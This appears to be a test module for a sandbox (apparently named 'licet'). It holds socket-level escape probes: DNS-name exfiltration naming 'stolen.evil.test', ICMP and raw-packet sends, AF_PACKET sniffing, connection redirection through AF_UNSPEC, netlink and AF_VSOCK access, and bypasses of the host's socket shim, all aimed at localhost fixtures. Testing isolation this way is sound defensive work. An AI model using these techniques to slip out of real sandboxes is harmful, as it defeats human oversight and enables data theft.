"""Connections, datagrams and sockets of every family."""

import _socket
import ctypes
import os
import socket
import struct
from typing import Any

from attacks.behind_walls import Outside, arrived, attack, exactly, raw, something
from licet import SyncContext

ON = struct.pack("ii", 1, 600)
GET_LINK, DUMP = 18, 0x301


def abstract_door(outside: Outside) -> dict[str, str]:
    outside.server = outside.kept.enter_context(socket.socket(socket.AF_UNIX))
    name = f"licet-test-{os.getpid()}-{id(outside)}"
    outside.server.bind(f"\0{name}")
    outside.server.listen()
    return {"name": name}


@attack(arrived("server"), before=abstract_door)
def abstract_unix_socket(name: str) -> None:
    """A tool talks to a service whose unix socket has no file, and so no permissions."""
    socket.socket(socket.AF_UNIX).connect(f"\0{name}")


@attack(arrived("listener"), needs=["network:tcp:127.0.0.1:9"])
def another_port(port: int) -> None:
    """A tool that may connect to one port asks the host for another."""
    socket.create_connection(("127.0.0.1", port), 10).close()


@attack(arrived("datagrams"), needs=["network:tcp:example.org:443"])
def ask_a_name_server(udp_port: int) -> None:
    """A tool carries data out in names that it asks a name server for."""
    name = b"".join(bytes([len(part)]) + part for part in (b"stolen", b"evil", b"test")) + b"\0"
    question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDP).sendto(question, ("127.0.0.1", udp_port))


def door_for_datagrams(outside: Outside) -> dict[str, str]:
    outside.server = outside.kept.enter_context(socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM))
    door = f"/tmp/licet-{os.getpid()}-{id(outside):x}.d"
    outside.server.bind(door)
    outside.kept.callback(os.unlink, door)
    return {"door": door}


@attack(arrived("server"), before=door_for_datagrams)
def datagram_pair(door: str) -> None:
    """A tool makes a pair of datagram sockets, which is no connection, and sends from one of them to a unix socket."""
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"out", door)


@attack(arrived("datagrams"))
def datagrams(udp_port: int) -> None:
    """A tool sends a datagram, which Landlock does not see."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"out", ("127.0.0.1", udp_port))


def forged_connection(ctx: SyncContext, port: int) -> None:
    """A tool asks the host for a connection behind the back of its context: at a level without any, or elsewhere."""
    inside: Any = ctx
    try:
        host = inside._target._host
    except AttributeError:  # without walls there is nobody to ask
        socket.create_connection(("127.0.0.1", port)).close()
        return
    host.ask_now("connect", host="127.0.0.1", port=port)


@attack(exactly(list(ON)), needs=["network:tcp:127.0.0.1:{outside.port}"])
def hold_up_the_host(port: int) -> Any:
    """A tool makes closing a connection wait, and sends it to the host: whoever closes it last is held up."""
    end = socket.create_connection(("127.0.0.1", port), 10)
    _socket.socket.setsockopt(end, socket.SOL_SOCKET, socket.SO_LINGER, ON)  # past whatever stands before it
    return list(end.getsockopt(socket.SOL_SOCKET, socket.SO_LINGER, len(ON)))


@attack(something)
def listen_for_connections() -> int:
    """A tool opens a port, and waits for whoever comes."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        return int(server.getsockname()[1])


@attack(lambda told, _: told and told > 32, rare=True)
def netlink() -> int:
    """A tool asks the kernel for the network of the machine: interfaces, addresses, routes."""
    asking = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    asking.send(struct.pack("=IHHIIBxHiII", 32, GET_LINK, DUMP, 1, 0, 0, 0, 0, 0, 0))
    return len(asking.recv(65536))


@attack(something)
def other_families() -> list[int]:
    """A tool tries every family of sockets that the kernel may have, besides those of TCP."""
    made, refused = [], OSError()
    for family in {*range(1, 64)} - {socket.AF_INET, socket.AF_INET6}:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind).close()
                made.append(family)
            except PermissionError as error:
                refused = error
            except OSError:
                continue
    if not made:
        raise refused
    return made


@attack(something, rare=True)
def ping() -> int:
    """A tool sends data out in pings, which need neither TCP nor UDP nor root."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return made.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.1", 0))


@attack(something, root=True, rare=True)
def raw_packets() -> int:
    """A tool of root makes packets itself, with any sender, here a ping."""
    made = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return made.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("127.0.0.1", 0))


@attack(exactly("listening"), root=True, rare=True)
def every_packet() -> str:
    """A tool of root listens to every packet of the machine."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return "listening"


def redirect_a_connection(port: int, allowed: int) -> None:
    """A tool gets a connection to where it may connect, disconnects it (`AF_UNSPEC`), and connects it to elsewhere."""
    made = socket.create_connection(("127.0.0.1", allowed), 10)
    raw("connect", made.fileno(), struct.pack("=H14x", 0), 16)
    elsewhere = struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton("127.0.0.1"))
    made.setblocking(True)
    raw("connect", made.fileno(), elsewhere, 16)


@attack(exactly("resolved"), refused="no address", rare=True)
def resolve_a_name() -> str:
    """A tool has the libraries of the system resolve a name, which asks files and servers of the machine."""
    libc = ctypes.CDLL(None, use_errno=True)
    found = ctypes.c_void_p()
    wrong = libc.getaddrinfo(b"localhost", b"80", None, ctypes.byref(found))
    if wrong:
        raise OSError(f"no address: {wrong}")
    return "resolved"


@attack(arrived("listener"), needs=["network:tcp:127.0.0.1:9"])
def tcp_past_the_shim(port: int) -> None:
    """A tool that may connect to one port takes the sockets of the kernel, past those that the host connects."""
    _socket.socket(socket.AF_INET, socket.SOCK_STREAM, 0).connect(("127.0.0.1", port))


@attack(arrived("listener"))
def tcp_to_a_service(port: int) -> None:
    """A tool connects to a service of the machine, which takes it for a friend."""
    socket.create_connection(("127.0.0.1", port), 10).close()


@attack(exactly("made"), rare=True)
def to_the_hypervisor() -> str:
    """A tool in a virtual machine talks to whoever runs the machine (`AF_VSOCK`)."""
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
    return "made"


@attack(arrived("unix"))
def unix_socket(door: str) -> None:
    """A tool talks to a service of the machine by its unix socket, as to Docker's or a database's."""
    socket.socket(socket.AF_UNIX).connect(door)


@attack(exactly("made"), rare=True)
def ciphers_of_the_kernel() -> str:
    """A tool uses ciphers of the kernel by a socket (`AF_ALG`), a part of it with a history of holes."""
    made = socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0)
    made.bind(("hash", "sha256"))
    return "made"


@attack(something)
def socket_of_the_kernel() -> str:
    """A tool makes a socket past Python's own, which is one that the host connects."""
    _socket.socket().close()
    return "made"
